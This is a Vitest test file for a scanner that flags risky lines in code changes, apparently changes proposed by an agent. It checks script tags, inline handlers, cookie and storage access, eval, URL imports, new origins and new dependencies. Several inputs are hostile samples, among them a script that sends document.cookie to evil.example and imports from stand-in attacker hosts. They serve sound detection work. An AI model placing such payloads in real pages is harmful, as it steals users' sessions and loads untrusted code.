import { builtinModules } from 'node:module';
import { describe, expect, it } from 'vitest';
import {
  findFixRisks,
  listAddedHosts,
  listAddedPackages,
  MAX_RISKS,
  packageNameOf,
  type RiskScanInput,
} from '../../shared/domain/fix-risks.js';
import type { FixRiskKind } from '../../shared/jobs/job-schemas.js';

function scan(path: string, lines: string[], overrides: Partial<RiskScanInput> = {}) {
  return findFixRisks({
    files: [{ path, addedLines: lines.map((text, index) => ({ line: index + 1, text })) }],
    baseHosts: ['api.shop.example'],
    manifests: [{ dir: '', dependencies: ['react', '@tanstack/react-query'] }],
    builtinModules,
    localNames: ['components', 'utils'],
    ...overrides,
  });
}

const kindsOf = (path: string, line: string, overrides: Partial<RiskScanInput> = {}) =>
  [...new Set(scan(path, [line], overrides).map((risk) => risk.kind))].sort();

describe('findFixRisks: what it reports', () => {
  it.each<[string, string, string, FixRiskKind[]]>([
    // The attack: a script tag that sends the cookies to another origin.
    [
      'script tag stealing cookies',
      'src/index.html',
      "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
      ['cookie_or_storage', 'external_origin', 'script_tag'],
    ],
    [
      'external script',
      'pages/index.html',
      '<script src="https://cdn.evil.example/x.js"></script>',
      ['external_origin', 'script_tag', 'url_import'],
    ],
    ['script element', 'src/a.js', "const s = document.createElement('script');", ['script_tag']],
    ['onclick attribute', 'src/index.html', '<button onclick="pay()">Pay</button>', ['inline_event_handler']],
    [
      'onerror in a template string',
      'src/a.js',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the line is source code, quoted
      'el.innerHTML = `<img src=x onerror="${code}">`;',
      ['inline_event_handler'],
    ],
    ['onClick with a string in JSX', 'src/A.jsx', '<a onClick="alert(1)">x</a>', ['inline_event_handler']],
    ['setAttribute on…', 'src/a.js', "el.setAttribute('onload', payload);", ['inline_event_handler']],
    ['javascript: URL', 'src/A.jsx', '<a href="javascript:void(steal())">x</a>', ['inline_event_handler']],
    ['document.cookie', 'src/a.js', 'const c = document . cookie;', ['cookie_or_storage']],
    ['localStorage', 'src/a.ts', "localStorage.setItem('k', v);", ['cookie_or_storage']],
    ['sessionStorage', 'src/a.ts', 'window.sessionStorage.clear();', ['cookie_or_storage']],
    ['indexedDB', 'src/a.ts', "indexedDB.open('db');", ['cookie_or_storage']],
    ['eval', 'src/a.js', 'eval(input);', ['dynamic_code']],
    ['window.eval', 'src/a.js', 'window.eval(input);', ['dynamic_code']],
    ['new Function', 'src/a.js', "const f = new Function('a', body);", ['dynamic_code']],
    ['Function from text', 'src/a.js', "const f = Function('return this')();", ['dynamic_code']],
    ['string timer', 'src/a.js', "setTimeout('tick()', 10);", ['dynamic_code']],
    ['string interval', 'src/a.js', 'setInterval(`poll()`, 10);', ['dynamic_code']],
    [
      'static import from a URL',
      'src/a.js',
      "import x from 'https://esm.sh/left-pad';",
      ['external_origin', 'url_import'],
    ],
    [
      'side-effect import from a URL',
      'src/a.js',
      "import 'https://evil.example/x.js';",
      ['external_origin', 'url_import'],
    ],
    [
      'dynamic import from a URL',
      'src/a.js',
      "await import('//evil.example/x.js');",
      ['external_origin', 'url_import'],
    ],
    [
      'CSS @import from a URL',
      'src/a.css',
      "@import url('https://fonts.evil.example/x.css');",
      ['external_origin', 'url_import'],
    ],
    ['new origin in fetch', 'src/api.ts', "fetch('https://collector.example.net/v1')", ['external_origin']],
    [
      'new origin over websockets',
      'src/ws.ts',
      "new WebSocket('wss://live.example.org/socket')",
      ['external_origin'],
    ],
    ['new dependency', 'src/a.js', "import leftPad from 'left-pad';", ['new_dependency']],
    [
      'new scoped dependency, deep import',
      'src/a.tsx',
      "import { x } from '@evil/ui/button';",
      ['new_dependency'],
    ],
    ['new dependency by require', 'src/a.cjs', "const x = require('lodash');", ['new_dependency']],
    [
      'new dependency by dynamic import',
      'src/a.ts',
      "const m = await import('chart.js');",
      ['new_dependency'],
    ],
    ['re-export of a new dependency', 'src/a.ts', "export { x } from 'zod';", ['new_dependency']],
  ])('%s', (_name, path, line, kinds) => {
    expect(kindsOf(path, line)).toEqual(kinds);
  });

  it('numbers each risk by its line in the new file', () => {
    expect(
      findFixRisks({
        files: [
          {
            path: 'src/index.html',
            addedLines: [
              { line: 12, text: '  <script>' },
              { line: 13, text: "    fetch('https://evil.example/c?' + document.cookie);" },
            ],
          },
        ],
        baseHosts: [],
        manifests: [],
        builtinModules,
        localNames: [],
      }),
    ).toEqual([
      { path: 'src/index.html', line: 12, kind: 'script_tag', detail: 'adds a <script> tag' },
      { path: 'src/index.html', line: 13, kind: 'cookie_or_storage', detail: 'uses document.cookie' },
      {
        path: 'src/index.html',
        line: 13,
        kind: 'external_origin',
        detail: 'new external origin evil.example',
      },
    ]);
  });
});

describe('findFixRisks: what it leaves alone', () => {
  it.each<[string, string, string]>([
    [
      'an ordinary fix',
      'src/cart.js',
      '  const total = (items ?? []).map(lineTotal).reduce((s, a) => s + a, 0);',
    ],
    ['React event binding', 'src/A.jsx', '<button onClick={() => pay()}>Pay</button>'],
    ['a variable named like a handler', 'src/a.js', "const onload = 'ready';"],
    ['a property set to a function', 'src/a.js', 'img.onload = () => done();'],
    ['a word containing eval', 'src/a.js', 'const score = evaluate(input);'],
    ['a method named eval', 'src/a.js', 'page.eval(script);'],
    ['a function timer', 'src/a.js', 'setTimeout(() => tick(), 10);'],
    ['a host the base already uses', 'src/api.ts', "fetch('https://api.shop.example/orders')"],
    ['the base host, upper case', 'src/api.ts', "fetch('HTTPS://API.SHOP.EXAMPLE/orders')"],
    ['an SVG namespace', 'src/Icon.jsx', '<svg xmlns="http://www.w3.org/2000/svg" />'],
    ['a loopback URL', 'src/dev.ts', "const api = 'http://localhost:3000';"],
    ['a declared dependency', 'src/a.tsx', "import { useState } from 'react';"],
    ['a declared scoped dependency', 'src/a.tsx', "import { useQuery } from '@tanstack/react-query';"],
    ['a Node built-in', 'src/a.test.js', "import { test } from 'node:test';"],
    ['a Node built-in without prefix', 'src/a.test.js', "import assert from 'assert';"],
    ['a relative import', 'src/a.js', "import { cartTotal } from './cart.js';"],
    ['an alias import', 'src/a.ts', "import { Button } from '@/components/button';"],
    ['a baseUrl import of a local directory', 'src/a.ts', "import { format } from 'utils/format';"],
    ['a subpath import', 'src/a.ts', "import x from '#internal/x';"],
    ['an import in a stylesheet', 'src/a.css', "@import 'normalize.css';"],
    ['a package-like word in prose', 'src/notes.md', 'Use the `lodash` approach from the docs.'],
  ])('%s', (_name, path, line) => {
    expect(scan(path, [line])).toEqual([]);
  });

  it('takes dependencies from every package.json above the file', () => {
    const manifests = [
      { dir: '', dependencies: ['react'] },
      { dir: 'apps/web', dependencies: ['next'] },
    ];
    expect(kindsOf('apps/web/src/a.ts', "import Link from 'next/link';", { manifests })).toEqual([]);
    expect(kindsOf('apps/admin/src/a.ts', "import Link from 'next/link';", { manifests })).toEqual([
      'new_dependency',
    ]);
  });
});

describe('findFixRisks: limits', () => {
  it('reports at most MAX_RISKS, with short details', () => {
    const lines = Array.from({ length: 300 }, (_, index) => `eval(x${index});`);
    const risks = scan('src/a.js', lines);
    expect(risks).toHaveLength(MAX_RISKS);
    const long = scan('src/a.js', [`import x from 'https://evil.example/${'a'.repeat(500)}';`]);
    expect(long.every((risk) => risk.detail.length <= 160)).toBe(true);
  });

  it('stays linear on a 1 MiB line an agent chose (finds what is at its end)', () => {
    for (const filler of ['a+', '<a ', 'on', 'import(', '//a.', 'https://a']) {
      const line = `${filler.repeat(Math.floor((1024 * 1024) / filler.length))} eval(x)`;
      expect(kindsOf('src/a.js', line)).toContain('dynamic_code');
    }
  });
});

describe('the facts the runner looks up', () => {
  it('lists the hosts and packages the change mentions', () => {
    const files = [
      {
        path: 'src/a.ts',
        addedLines: [
          { line: 1, text: "import x from 'left-pad'; fetch('https://Evil.Example/x')" },
          { line: 2, text: "import y from './y.js'; const s = '//cdn.example.net/a.js'" },
        ],
      },
      { path: 'src/b.md', addedLines: [{ line: 1, text: "import z from 'not-code'" }] },
    ];
    expect(listAddedHosts(files)).toEqual(['cdn.example.net', 'evil.example']);
    expect(listAddedPackages(files)).toEqual(['left-pad']);
  });

  it.each([
    ['react', 'react'],
    ['react-dom/client', 'react-dom'],
    ['@scope/pkg/deep/file.js', '@scope/pkg'],
    ['./local', null],
    ['../up', null],
    ['/abs', null],
    ['#sub', null],
    ['~/alias', null],
    ['@/alias', null],
    ['node:fs', null],
    ['https://esm.sh/x', null],
    ['data:text/javascript,1', null],
  ])('packageNameOf(%j) is %j', (specifier, name) => {
    expect(packageNameOf(specifier)).toBe(name);
  });
});
